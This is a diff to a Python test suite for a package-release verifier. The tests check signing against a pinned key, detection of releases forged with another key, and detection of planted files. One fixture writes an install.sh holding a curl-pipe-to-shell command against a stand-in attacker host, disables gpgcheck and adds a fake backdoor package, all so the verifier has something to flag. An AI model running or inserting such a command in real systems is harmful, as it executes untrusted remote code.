@@ -164,7 +164,8 @@ def test_links_and_fifos_named_like_packages_are_named_and_never_read(release, s
     key.symlink_to("/dev/zero")
     run = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL, env=env, timeout=300)
     assert run.returncode == 4, run.stdout + run.stderr  # ended: the key is not taken from a device
-    assert f"no key: the tree has no {key.name}" in run.stdout
+    assert f"FAIL  {key.name}: cannot be read: {key.name}: a symbolic link, not a file: refused" in run.stdout
+    assert "ok    deps/misc/libaltai-1.2-1.el6" in run.stdout  # checked against the pinned key, not the tree's
 
 
 # -- --verify trusts nothing of the tree and reads nothing unbounded (issue 37) ---------------------------
@@ -187,8 +188,8 @@ def test_metadata_must_carry_the_metadata_keys_signature(release, state_dir, gnu
     revised = _copy(release, tmp_path, "revised")
     repomd = revised / "deps/misc/repodata/repomd.xml"
     repomd.write_text(re.sub(r"<revision>\d+</revision>", "<revision>1</revision>", repomd.read_text()))
-    for copy, said in ((garbage, "bad signature by altai's key"), (missing, "not signed: no repomd.xml.asc"),
-                       (revised, "bad signature by altai's key")):  # fmt: skip
+    pinned = "bad signature: not by the pinned key altai"
+    for copy, said in ((garbage, pinned), (missing, "not signed: no repomd.xml.asc"), (revised, pinned)):
         run = _verify(release, state_dir, gnupghome, copy)
         assert run.returncode == 4, run.stdout
         assert f"FAIL  deps/misc/repodata/repomd.xml: {said}" in run.stdout, run.stdout
@@ -274,3 +275,63 @@ def test_a_source_package_without_a_build_time_is_a_fail_line(monkeypatch, tmp_p
     found = verify_release._rebuild_and_compare(None, None, passed, "x/a.src.rpm", "", tmp_path)  # type: ignore[arg-type]
     assert [(v.path, v.ok) for v in found] == [("x/a.src.rpm", False)]
     assert "no build time" in found[0].verdict
+
+
+# -- trust pinned outside the tree; every file accounted for (issue 53) ----------------------------------
+
+
+def test_a_release_remade_with_another_key_fails_naming_both_keys(release, state_dir, gnupghome, tmp_path):
+    """The forger re-makes the whole release with the tool itself and another key: packages, repomd.xml.asc,
+    manifest, SBOM, provenance, SHA256SUMS and the key file all agree with each other, and only the pinned key
+    tells."""
+    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
+    forger = {**release, "out": tmp_path / "forged"}
+    assert build(forger, tmp_path / "forger-state", gnupghome, "libaltai").returncode == 0
+    genuine = _verify(release, state_dir, gnupghome, None, "--json")
+    assert genuine.returncode == 0, genuine.stdout
+    (pinned,) = json.loads(genuine.stdout)["trusted_keys"]
+    assert pinned["from"] == f"the DEVELOPMENT key of {state_dir}/dev-gnupg"
+    run = _verify(release, state_dir, gnupghome, forger["out"])
+    assert run.returncode == 4
+    last = run.stderr.strip().splitlines()[-1]
+    assert last.startswith(f"error: {forger['out']}: ")
+    assert "the first: RPM-GPG-KEY-altai: holds " in last
+    assert f"not the pinned key altai {pinned['fingerprints'][0]}" in last
+    other = last.split("holds ", 1)[1].split(",", 1)[0]
+    assert len(other) == 40
+    assert other != pinned["fingerprints"][0]
+    assert f"key   altai {pinned['fingerprints'][0]}" in run.stdout  # the output names what it trusted
+
+    # a downloaded copy, checked against the key file its publisher announced
+    key_file = tmp_path / "announced.asc"
+    key_file.write_bytes((release["out"] / "RPM-GPG-KEY-altai").read_bytes())
+    nowhere = tmp_path / "no-state"
+    assert _verify(release, nowhere, gnupghome, release["out"], "--trust-key", str(key_file)).returncode == 0
+    assert _verify(release, nowhere, gnupghome, forger["out"], "--trust-key", str(key_file)).returncode == 4
+    alone = _verify(release, nowhere, gnupghome, forger["out"])
+    assert_one_line_error(alone, "no key to trust for 'altai'", "--trust-key FILE")
+    assert alone.returncode == 4
+
+
+def test_files_and_entries_no_signature_vouches_for_fail(release, state_dir, gnupghome, tmp_path):
+    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
+    copy = _copy(release, tmp_path, "planted")
+    (copy / "install.sh").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
+    repo = (copy / "altai.repo").read_text()
+    (copy / "altai.repo").write_text(repo.replace("gpgcheck=1", "gpgcheck=0"))
+    (copy / "evil").mkdir()
+    (copy / "evil" / "backdoor-1-1.el6.noarch.rpm").write_text("#!/bin/sh\nid\n")
+    manifest = json.loads((copy / "manifest.json").read_text())
+    entry = dict(manifest["packages"][0], repository="evil", path="evil/backdoor-1-1.el6.noarch.rpm",
+                 origin="upstream:evil", name="backdoor", version="1", release="1.el6", arch="noarch")  # fmt: skip
+    manifest["packages"].append(entry)
+    (copy / "manifest.json").write_text(json.dumps(manifest))
+    run = _verify(release, state_dir, gnupghome, copy)
+    assert run.returncode == 4
+    assert "FAIL  install.sh: a file SHA256SUMS does not list: not part of the release" in run.stdout
+    assert "FAIL  altai.repo: its SHA-256 differs from the signed SHA256SUMS" in run.stdout
+    assert "FAIL  manifest.json: its SHA-256 differs from the signed SHA256SUMS" in run.stdout
+    assert (
+        "FAIL  evil/backdoor-1-1.el6.noarch.rpm: in repository 'evil', which the layout does not define" in run.stdout
+    )
+    assert "signed (upstream" not in run.stdout
